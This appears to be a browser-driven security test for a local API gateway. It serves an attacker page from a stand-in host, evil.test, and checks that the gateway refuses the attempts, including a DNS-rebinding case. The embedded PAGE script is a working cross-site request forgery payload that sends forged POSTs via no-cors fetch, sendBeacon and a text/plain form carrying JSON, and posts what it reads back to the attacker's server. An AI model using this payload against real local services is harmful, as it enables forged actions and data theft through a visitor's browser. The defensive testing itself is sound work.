"""What a web page can do to a gateway without a token, through the browser of somebody who looks at it: a real one."""

import asyncio
import json
import os
import shutil
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

from gateway.serve.asgi import serve_asgi

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
LIMIT_S = 60

pytestmark = pytest.mark.skipif(BROWSER is None, reason="needs Chromium: apt install chromium")

PAGE = """<!doctype html><title>A page like any</title><body><script>
const create = JSON.stringify({model: "m", input: {}, callBackUrl: "HOOK"});
const register = JSON.stringify({taskId: "of-the-page", callbackUrl: "HOOK"});
const CREATE = "/api/v1/jobs/createTask", READ = "/api/v1/jobs/recordInfo?taskId=asked-by-the-page";
const read = async answer => (await answer).text();
const element = (tag, set) => new Promise(resolve => {
  const made = document.createElement(tag);
  made.onload = () => {
    try { resolve(tag + " " + (made.contentDocument ? made.contentDocument.body.innerText : "")); }
    catch (error) { resolve(String(error)); }
  };
  made.onerror = () => resolve("error");
  set(made);
  document.body.append(made);
});
const form = (url, enctype, name, value) => element("iframe", frame => {
  frame.name = "f" + Math.random();
  frame.srcdoc = `<form method=post action="${url}" enctype="${enctype}"><input></form>`;
  const loaded = frame.onload;
  frame.onload = () => {
    frame.onload = loaded;
    const sent = frame.contentDocument.forms[0];
    sent.elements[0].name = name;
    sent.elements[0].value = value;
    sent.submit();
  };
});
const attempts = base => ({
  text: () => read(fetch(base + CREATE, {method: "POST", body: create})),
  blind: () => read(fetch(base + CREATE, {method: "POST", mode: "no-cors", body: create})),
  typeless: () => read(fetch(base + "/v1/callbacks", {method: "POST", mode: "no-cors", body: new Blob([register])})),
  json: () => read(fetch(base + CREATE, {method: "POST", headers: {"content-type": "application/json"}, body: create})),
  beacon: async () => String(navigator.sendBeacon(base + "/v1/callbacks", register)),
  form: () => form(base + "/v1/callbacks", "text/plain", register.slice(0, -1) + ',"metadata":{"a":"', '"}}'),
  urlencoded: () => form(base + CREATE, "application/x-www-form-urlencoded", "a", "b"),
  task: () => read(fetch(base + "/v1/tasks/of-somebody")),
  list: () => read(fetch(base + "/v1/callbacks", {mode: "no-cors"})),
  image: () => element("img", made => made.src = base + READ),
  script: () => element("script", made => made.src = base + READ + "-script"),
  frame: () => element("iframe", made => made.src = base + "/v1/callbacks"),
  metrics: () => read(fetch(base + "/metrics")),
});
(async () => {
  const results = {};
  for (const base of BASES)
    for (const [name, attempt] of Object.entries(attempts(base)))
      results[base + " " + name] = await attempt().catch(String);
  await fetch("/done", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Naive:
    """What stands on the visitor's machine and trusts whoever reaches it: the page does get through."""

    def __init__(self) -> None:
        self.asked: Counter[str] = Counter()

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        await Request(scope, receive).body()
        self.asked[f"{scope['method']} {scope['path']}"] += 1
        await Response("{}")(scope, receive, send)


class Site:
    """The page's own server, to which it tells what it has got."""

    def __init__(self) -> None:
        self.page = ""
        self.results: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["path"] == "/done":
            self.results.set_result(json.loads(await Request(scope, receive).body()))
        await HTMLResponse(self.page)(scope, receive, send)


@asynccontextmanager
async def browser(folder: Path, *arguments: str) -> AsyncIterator[asyncio.subprocess.Process]:
    """Run Chromium, to which the name evil.test is this machine, with nothing of the user's."""
    assert BROWSER is not None
    flags = ["headless", "no-sandbox", "disable-gpu", "disable-quic", "no-first-run", "disable-background-networking"]
    flags += [
        "disable-component-update",
        "disable-sync",
        "disable-dev-shm-usage",
        f"user-data-dir={folder / 'profile'}",
    ]
    flags += ["host-resolver-rules=MAP evil.test 127.0.0.1"]
    process = await asyncio.create_subprocess_exec(
        BROWSER,
        *(f"--{flag}" for flag in flags),
        *arguments,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
        env={"PATH": os.environ["PATH"], "HOME": str(folder)},
        start_new_session=True,
    )
    try:
        yield process
    finally:
        if process.returncode is None:
            os.killpg(process.pid, 9)
        await process.communicate()


async def test_a_foreign_page_creates_nothing_and_reads_nothing(world: Any, tmp_path: Path) -> None:
    """Whatever it tries: forms, texts, beacons and blind requests are refused, and no answer can be read."""
    naive, site = Naive(), Site()
    async with (
        asyncio.timeout(LIMIT_S),
        world.gateway() as gateway,
        httpx.AsyncClient(base_url=gateway.url, trust_env=False) as client,
        serve_asgi(naive) as naive_url,
        serve_asgi(site) as site_url,
    ):
        await world.register(client, "of-somebody")
        before = (await client.get("/v1/callbacks")).json()["data"]
        site.page = PAGE.replace("HOOK", f"{world.receiver.url}/hooks").replace(
            "BASES", json.dumps([naive_url, gateway.url])
        )
        async with browser(tmp_path, site_url.replace("127.0.0.1", "evil.test")):
            results = await site.results
        after = (await client.get("/v1/callbacks")).json()["data"]
        assert [callback["id"] for callback in after] == [callback["id"] for callback in before]
        assert await gateway.stop() == 0
    assert world.simulator.stats.requests["createTask"] == 0
    assert not [task for task in world.simulator.stats.polls if task.startswith("asked-by-the-page")]
    told = {name: text for name, text in results.items() if name.startswith(gateway.url)}
    assert not [text for text in told.values() if "of-somebody" in text or "gateway_" in text or "cb_" in text]
    assert set(naive.asked) >= {
        *("POST /api/v1/jobs/createTask", "POST /v1/callbacks", "GET /v1/tasks/of-somebody", "GET /v1/callbacks"),
        *("GET /api/v1/jobs/recordInfo", "GET /metrics"),
    }
    assert naive.asked["POST /v1/callbacks"] == 3, "by text, by beacon and by form"


@pytest.mark.parametrize("path", ["/v1/callbacks", "/api/v1/jobs/recordInfo?taskId=of-somebody", "/metrics"])
async def test_a_name_that_was_bound_anew_reads_nothing(world: Any, tmp_path: Path, path: str) -> None:
    """To the browser all of the gateway is then that name's own page; the gateway tells by the name."""
    async with (
        asyncio.timeout(LIMIT_S),
        world.gateway() as gateway,
        httpx.AsyncClient(base_url=gateway.url, trust_env=False) as client,
    ):
        await world.register(client, "of-somebody")
        shown = {}
        for name in ("evil.test", "localhost"):
            url = gateway.url.replace("127.0.0.1", name) + path
            async with browser(tmp_path, "--dump-dom", url) as process:
                shown[name] = (await process.communicate())[0].decode()
        assert await gateway.stop() == 0
    assert "of-somebody" not in shown["evil.test"]
    assert "only localhost" in shown["evil.test"]
    assert "of-somebody" in shown["localhost"] or "gateway_" in shown["localhost"]
